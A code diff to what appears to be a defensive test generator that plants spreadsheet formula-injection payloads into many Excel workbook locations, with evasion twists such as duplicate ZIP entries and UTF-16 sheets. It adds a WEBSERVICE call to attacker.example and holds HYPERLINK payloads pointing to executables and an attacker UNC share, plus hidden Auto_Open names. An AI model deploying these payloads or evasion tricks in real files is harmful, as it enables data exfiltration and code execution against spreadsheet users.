@@ -52,6 +52,7 @@ FORMULAS: tuple[FormulaAttack, ...] = (
     FormulaAttack("HYPERLINK-file", 'HYPERLINK("file:///c:/x/a.exe","開く")'),
     FormulaAttack("HYPERLINK-unc", r'HYPERLINK("\\attacker.example\share\a.exe","開く")'),
     FormulaAttack("HYPERLINK-concat", 'HYPERLINK("fi"&"le:///c:/x/a.exe","開く")'),
+    FormulaAttack("WEBSERVICE-leading-equals", '=_xlfn.WEBSERVICE("http://attacker.example/q")'),
 )
 
 
@@ -157,12 +158,21 @@ def in_pivot_cache(package: Package, x: str) -> None:
                                f'<pivotCaches><pivotCache cacheId="1" r:id="{rel}"/></pivotCaches>')
 
 
+def in_sparkline(package: Package, x: str) -> None:
+    _ext(package, "{05C60535-1F16-4fd2-B633-F4F36F0B64E0}",
+         f'<x14:sparklineGroups xmlns:xm="{XM}"><x14:sparklineGroup displayEmptyCellsAs="gap"><x14:colorSeries '
+         'rgb="FF376092"/><x14:sparklines><x14:sparkline>'
+         f"<xm:f>{x}</xm:f><xm:sqref>E2</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup>"
+         "</x14:sparklineGroups>")
+
+
 Place = Callable[[Package, str], None]
 PLACES: dict[str, Place] = {
     "cell": in_cell, "shared-master": in_shared_master, "shared-child-text": in_shared_child, "array": in_array,
     "definedName": in_defined_name, "conditionalFormatting": in_cf, "colorScale-cfvo": in_cfvo,
     "dataValidation-formula1": in_dv1, "dataValidation-formula2": in_dv2, "x14-dataValidation-xm:f": in_x14_dv,
-    "x14-conditionalFormatting-xm:f": in_x14_cf, "table-calculatedColumnFormula": in_table_column,
+    "x14-conditionalFormatting-xm:f": in_x14_cf, "x14-sparkline-xm:f": in_sparkline,
+    "table-calculatedColumnFormula": in_table_column,
     "table-totalsRowFormula": in_table_total, "chart-c:f": in_chart, "pivotCache-cacheField": in_pivot_cache,
 }
 
@@ -191,12 +201,37 @@ def sheet_name_case_entry_only(package: Package) -> None:
                      for n, d in package.parts.items()}
 
 
-TWISTS: dict[str, Callable[[Package], None]] = {
-    "strict": Package.to_strict,
-    "sheet-content-type-case": sheet_type_case,
-    "workbook-content-type-case": workbook_type_case,
-    "sheet-part-name-case": sheet_name_case_everywhere,
-    "sheet-zip-entry-case": sheet_name_case_entry_only,
+def duplicate_entry(attack_last: bool, package: Package, before: bytes) -> None:
+    """The sheet twice in the ZIP under one name, harmless and planted, in either order (readers
+    differ on which entry they take)."""
+    planted = package.parts[SHEET]
+    if attack_last:
+        package.parts[SHEET] = before
+        package.extra.append((SHEET, planted))
+    else:
+        package.extra.append((SHEET, before))
+
+
+def utf16_sheet(package: Package, before: bytes) -> None:
+    package.to_utf16(SHEET)
+
+
+Twist = Callable[[Package, bytes], None]
+
+
+def _ignoring_before(edit: Callable[[Package], None]) -> Twist:
+    return lambda package, before: edit(package)
+
+
+TWISTS: dict[str, Twist] = {
+    "strict": _ignoring_before(Package.to_strict),
+    "sheet-content-type-case": _ignoring_before(sheet_type_case),
+    "workbook-content-type-case": _ignoring_before(workbook_type_case),
+    "sheet-part-name-case": _ignoring_before(sheet_name_case_everywhere),
+    "sheet-zip-entry-case": _ignoring_before(sheet_name_case_entry_only),
+    "sheet-utf16": utf16_sheet,
+    "duplicate-entry-planted-last": partial(duplicate_entry, True),
+    "duplicate-entry-planted-first": partial(duplicate_entry, False),
 }
 
 # formulas that only a defined name holds, and names Excel runs when the workbook opens
@@ -207,13 +242,15 @@ NAMES: dict[str, str] = {
     "Auto_Open-suffix": '<definedName name="Auto_Open_1" hidden="1">データ!$A$1</definedName>',
     "Auto_Open-case": '<definedName name="_XLNM.AUTO_OPEN">データ!$A$1</definedName>',
     "Auto_Open-entity": '<definedName name="&#65;uto_&#x4F;pen">データ!$A$1</definedName>',
+    "macro-name-attributes": '<definedName name="実行" function="1" vbProcedure="1" xlm="1">データ!$A$1</definedName>',
 }
 
 
-def _plant(place: Place, formula: FormulaAttack, twist: Callable[[Package], None] | None, package: Package) -> None:
+def _plant(place: Place, formula: FormulaAttack, twist: Twist | None, package: Package) -> None:
+    before = package.parts.get(SHEET, b"")
     place(package, formula.xml())
     if twist is not None:
-        twist(package)
+        twist(package, before)
 
 
 def _name(xml: str, package: Package) -> None:
@@ -233,9 +270,9 @@ def excel_formula_variants(base: str, full: bool = True) -> list[Variant]:
             out.append(Variant("excel-formula", formula.name, how, "cell", base,
                                partial(_plant, in_cell, formula, twist)))
         out.append(Variant("excel-formula", formula.name, "strict", "definedName", base,
-                           partial(_plant, in_defined_name, formula, Package.to_strict)))
+                           partial(_plant, in_defined_name, formula, TWISTS["strict"])))
         out.append(Variant("excel-formula", formula.name, "strict", "x14-dataValidation-xm:f", base,
-                           partial(_plant, in_x14_dv, formula, Package.to_strict)))
+                           partial(_plant, in_x14_dv, formula, TWISTS["strict"])))
     if full:
         for name, xml in NAMES.items():
             out.append(Variant("excel-formula", name, "plain", "definedName", base, partial(_name, xml)))
